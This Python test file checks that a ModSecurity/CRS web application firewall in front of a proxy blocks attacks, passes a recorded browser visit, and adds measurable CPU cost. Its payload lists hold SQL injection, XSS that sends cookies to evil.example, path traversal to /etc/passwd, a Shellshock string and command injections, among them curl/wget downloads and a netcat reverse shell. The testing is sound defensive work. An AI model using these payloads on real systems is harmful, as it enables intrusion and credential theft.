"""A WAF on the crate zentinel-modsec with the rules of Debian's package
modsecurity-crs, in front of a small web application: attacks are blocked and
never reach it, a visit recorded with a browser passes. What it costs goes to
build/interop/waf.txt. Built by tests/interop/build."""
import base64
import json
import os
import shutil
import statistics
import subprocess
import time

from lib import ROOT, Raw, Skip, can_connect, check, eq, wait_for
from test_interop import BUILT, built

APP = os.path.join(ROOT, "tests/interop/app")
RULES = os.path.join(ROOT, "tests/interop/waf/rules.conf")
FORM = "application/x-www-form-urlencoded"
BROWSER = [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0"),
           ("Accept", "text/html,*/*;q=0.8"), ("Accept-Language", "en")]

# Where: path and query as the target; headers; or a body of a type.
SQL = (
    "1' OR '1'='1", "1 UNION SELECT username,password FROM users-- ",
    "1; DROP TABLE users; --", "' OR sleep(5)-- ",
    "1' AND extractvalue(1,concat(0x7e,version()))-- ",
    "admin'/**/OR/**/1=1#")
XSS = (
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>", "javascript:alert(1)//<a href=",
    "<svg/onload=fetch('//evil.example/'+document.cookie)>",
    "\"><iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>")
TRAVERSAL = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini",
    "/etc/shadow", "..%2f..%2f..%2fetc%2fpasswd")
COMMAND = (
    "; cat /etc/passwd", "$(curl http://evil.example/x.sh)",
    "| wget http://evil.example/a -O /tmp/a", "`id`; /bin/bash -i",
    "&& nc -e /bin/sh 192.0.2.1 4444")


def quote(text):
    return "".join(c if c.isalnum() else "%%%02x" % ord(c) for c in text)


def multipart(name, filename, data):
    return ("multipart/form-data; boundary=b0undary", (
        '--b0undary\r\nContent-Disposition: form-data; name="%s"%s\r\n\r\n%s'
        '\r\n--b0undary--\r\n' % (name, filename, data)).encode())


def attacks():
    """(kind, where, method, target, headers, body)."""
    for kind, words in (("sql", SQL), ("xss", XSS), ("traversal", TRAVERSAL),
                        ("command", COMMAND)):
        for w in words:
            yield kind, "query", "GET", "/search?q=" + quote(w), [], None
            yield (kind, "form", "POST", "/comment", [("Content-Type", FORM)],
                   b"name=Eve&text=" + quote(w).encode())
        w = words[0]
        yield (kind, "json", "POST", "/api/items",
               [("Content-Type", "application/json")],
               json.dumps({"name": "x", "note": {"more": [w]}}).encode())
        ctype, body = multipart("title", "", w)
        yield (kind, "multipart", "POST", "/upload",
               [("Content-Type", ctype)], body)
        yield (kind, "name", "GET", "/search?%s=1" % quote(w), [], None)
    for w in (SQL[0], XSS[0], TRAVERSAL[0], COMMAND[0]):
        yield ("cookie", "cookie", "GET", "/account",
               [("Cookie", "session=" + quote(w))], None)
    for where, target in (
            ("path", "/files/..%2f..%2f..%2fetc/passwd"),
            ("path", "/item/%3Cscript%3Ealert(1)%3C/script%3E"),
            ("path", "/backup/.htpasswd"), ("path", "/.htaccess"),
            ("path", "/wp-config.php"), ("path", "/item/..%5c..%5cboot.ini"),
            ("path", "/cgi-bin/../../../../bin/sh")):
        yield "path", where, "GET", target, [], None
    shellshock = "() { :; }; /bin/bash -c 'cat /etc/passwd'"
    for n, v in (("User-Agent", "sqlmap/1.7"), ("User-Agent", shellshock),
                 ("Referer", "http://x/?" + XSS[0]),
                 ("User-Agent", XSS[0]), ("User-Agent", "Nikto/2.5"),
                 ("X-Theme", TRAVERSAL[0]),
                 ("Referer", "http://x/?q=" + SQL[1])):
        yield "header", n.lower(), "GET", "/", [(n, v)], None


class Guarded:
    """The application behind the WAF, and beside it without."""

    def __init__(self, env):
        waf = built("waf")
        if not os.path.exists("/usr/share/modsecurity-crs/rules"):
            raise Skip("no rules here (modsecurity-crs)")
        self.log = env.path("app.log")
        port = env.port()
        env.spawn(["python3", os.path.join(APP, "app.py"), str(port),
                   self.log])
        sock = env.path("waf.sock")
        self.waf = env.spawn([waf, sock, RULES])
        wait_for(lambda: os.path.exists(sock) and can_connect(port),
                 "the WAF and the application", 60)
        c = env.config(port, {"waf": {"timeout": "10s"}})
        use = {"name": "waf", "request_body": "hold", "max_body": "8MiB"}
        c["routes"] = [
            {"name": "bare", "upstream": "app", "agents": [],
             "match": {"host": "bare.example"}},
            {"name": "guarded", "upstream": "app", "agents": [use]}]
        self.d = env.start(c)

    def ask(self, method, target, headers=(), body=None, **more):
        names = [n for n, _ in headers]
        headers = [h for h in BROWSER if h[0] not in names] + list(headers)
        c = Raw(self.d.port)
        c.request(method, target, headers, body, **more)
        r = c.response(method)
        c.close()
        return r

    def seen(self):
        with open(self.log) as f:
            return [json.loads(line) for line in f]


def test_interop_waf_attacks(env):
    g = Guarded(env)
    eq(g.ask("GET", "/search?q=tea").status, 200)
    eq(len(g.seen()), 1)
    kinds, passed = {}, []
    for kind, where, method, target, headers, body in attacks():
        r = g.ask(method, target, headers, body)
        if r.status != 403 and not (kind == "path" and r.status == 400):
            passed.append((r.status, kind, where, target, headers, body))
        kinds[kind] = kinds.get(kind, 0) + 1
    check(not passed, "passed:\n" + "\n".join(map(str, passed)))
    eq(len(g.seen()), 1, "the application")
    check(sum(kinds.values()) >= 50, kinds)
    eq(g.d.metric("agent_failures_total", agent="waf"), 0)
    print("blocked: %d attacks, %r" % (sum(kinds.values()), kinds))


def visit():
    with open(os.path.join(APP, "visit.jsonl")) as f:
        return [json.loads(line) for line in f]


def replay(g, host=None, pick=lambda n: True):
    """The recorded visit on one connection, but for what pick of a body's size
    leaves out; time of each request."""
    c, times = Raw(g.d.port), []
    for x in visit():
        body = base64.b64decode(x["body"])
        if not pick(len(body)):
            continue
        headers = [(n, v) for n, v in x["headers"] if n != "Host"]
        began = time.monotonic()
        c.request(x["method"], x["target"], headers, body or None,
                  host=host or "shop.example")
        r = c.response(x["method"])
        times.append(((time.monotonic() - began) * 1e6, len(body)))
        eq(r.status, x["status"], "%s %s: %r" % (x["method"], x["target"],
                                                 r.headers))
    c.close()
    return times


def test_interop_waf_visit(env):
    """What the browser sent, uploads included, reaches the application as it
    was."""
    g = Guarded(env)
    replay(g)
    want = visit()
    wait_for(lambda: len(g.seen()) == len(want), "the application's log")
    for x, y in zip(want, g.seen()):
        eq((y["method"], y["target"], y["body"] == x["body"]),
           (x["method"], x["target"], True))
    eq(g.d.metric("agent_decisions_total", agent="waf", decision="block"), 0)
    eq(g.d.metric("agent_failures_total", agent="waf"), 0)


def test_interop_waf_browser(env):
    """The same visit by a real browser, if there is one."""
    chromium = shutil.which("chromium")
    if not chromium:
        raise Skip("no chromium here")
    g = Guarded(env)
    command = [
        chromium, "--headless", "--no-sandbox", "--disable-gpu",
        "--disable-dev-shm-usage", "--user-data-dir=" + env.path("profile"),
        "--host-resolver-rules=MAP shop.example 127.0.0.1",
        "--virtual-time-budget=30000", "--dump-dom",
        "http://shop.example:%d/tour" % g.d.port]
    for _ in range(3):
        p = subprocess.run(command, stdout=subprocess.PIPE,
                           stderr=subprocess.DEVNULL, text=True, timeout=120)
        # On a busy machine its budget may end before the visit.
        if ">running<" not in p.stdout:
            break
    check("tour: ok" in p.stdout, p.stdout[-500:])
    eq(g.d.metric("agent_decisions_total", agent="waf", decision="block"), 0)


def cpu_us(proc):
    """CPU time of all threads of a process, to the microsecond."""
    ns = 0
    for task in os.listdir("/proc/%d/task" % proc.pid):
        try:
            with open("/proc/%d/task/%s/schedstat" % (proc.pid, task)) as f:
                ns += int(f.read().split()[0])
        except OSError:
            pass
    return ns / 1000


CLASSES = (("without body", lambda n: n == 0),
           ("body up to 1 KiB", lambda n: 0 < n <= 1024),
           ("body over 1 KiB", lambda n: n > 1024))
HOSTS = ("bare.example", "shop.example")    # without and with the WAF
ROUNDS = 8


def measured(g, host, pick):
    """One round of a class: times of its requests, and CPU time per request
    of the proxy and of the WAF."""
    before = cpu_us(g.d.proc), cpu_us(g.waf)
    times = [t for t, _ in replay(g, host, pick)]
    g.d.wait_idle()
    after = cpu_us(g.d.proc), cpu_us(g.waf)
    # wait_idle asks the admin port: that is in the proxy's time, the same
    # with and without the WAF.
    return (times, (after[0] - before[0]) / len(times),
            (after[1] - before[1]) / len(times))


def test_interop_waf_time(env):
    """What the WAF adds to a request of the visit: time as a client sees it,
    which depends on what else the machine does, and CPU time, which hardly
    does."""
    g = Guarded(env)
    replay(g)
    text = ["What the WAF adds to a request of the recorded visit, us; median "
            "of %d rounds." % ROUNDS,
            "Load average of the machine: %.1f, on %d cores." % (
                os.getloadavg()[0], os.cpu_count()), "",
            "%-18s %8s %8s %8s   %s" % ("", "without", "with", "added",
                                        "CPU time added"),
            "%-18s %26s   %8s %8s" % ("", "", "proxy", "WAF")]
    for name, pick in CLASSES:
        rounds = {h: [] for h in HOSTS}
        for _ in range(ROUNDS):
            for host in HOSTS:
                rounds[host].append(measured(g, host, pick))
        wall, cpu = {}, {}
        for host, rr in rounds.items():
            wall[host] = statistics.mean(
                statistics.median(r[0][i] for r in rr)
                for i in range(len(rr[0][0])))
            cpu[host] = [statistics.median(r[k] for r in rr) for k in (1, 2)]
        bare, guarded = HOSTS
        text.append("%-18s %8.0f %8.0f %8.0f   %8.0f %8.0f" % (
            name, wall[bare], wall[guarded], wall[guarded] - wall[bare],
            cpu[guarded][0] - cpu[bare][0], cpu[guarded][1] - cpu[bare][1]))
        check(cpu[guarded][1] > cpu[bare][1], "the WAF worked")
    text = "\n".join(text) + "\n"
    with open(os.path.join(BUILT, "waf.txt"), "w") as f:
        f.write(text)
    print(text)
